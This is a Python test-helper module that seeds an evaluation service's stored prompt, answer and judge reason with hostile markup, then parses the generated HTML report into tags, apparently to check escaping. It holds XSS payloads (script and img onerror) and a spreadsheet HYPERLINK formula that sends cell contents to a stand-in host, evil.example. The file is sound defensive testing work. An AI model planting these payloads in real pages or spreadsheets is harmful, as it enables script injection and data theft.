"""Finished evals whose rows hold hostile text, and the HTML report read back as tags."""

from __future__ import annotations

from html.parser import HTMLParser

from sqlalchemy import select, update

from service.db import session_scope
from service.models import Item, Judgment, Response
from tests.service.api.builders import JUDGE, finished_eval
from tests.service.api.conftest import add_dataset

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_eval(db_url: str) -> tuple[str, int]:
    """A finished eval whose first item's request, answer and judge's reason are markup and
    formulas (its grade raised to 5, so the report lists it); (eval id, that item)."""
    add_dataset(db_url)
    eval_id = finished_eval(db_url)
    with session_scope(db_url) as session:
        item_id = session.scalars(select(Response.item_id).where(
            Response.eval_id == eval_id).order_by(Response.item_id)).first()
        assert item_id is not None
        session.execute(update(Item).where(Item.id == item_id).values(
            prompt=f"{IMG} {FORMULA}"))
        session.execute(update(Response).where(Response.eval_id == eval_id,
                                               Response.item_id == item_id).values(
            text=f"{SCRIPT}\n{IMG}"))
        session.execute(update(Judgment).where(Judgment.eval_id == eval_id,
                                               Judgment.item_id == item_id,
                                               Judgment.judge == JUDGE).values(
            score=5, reason=f"-2+3 {SCRIPT}"))
    return eval_id, item_id


class Tags(HTMLParser):
    """Every start tag with its attributes, and the data-metric values."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.metrics: dict[str, str] = {}
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        metric, value = attributes.get("data-metric"), attributes.get("data-value")
        if metric is not None and value is not None:
            self.metrics[metric] = value


def metric_value(summary: dict[str, object], path: str) -> object:
    """A dotted path (by_principle.3.mean) into the summary's JSON."""
    value: object = summary
    for part in path.split("."):
        assert isinstance(value, dict), path
        value = value[part]
    return value
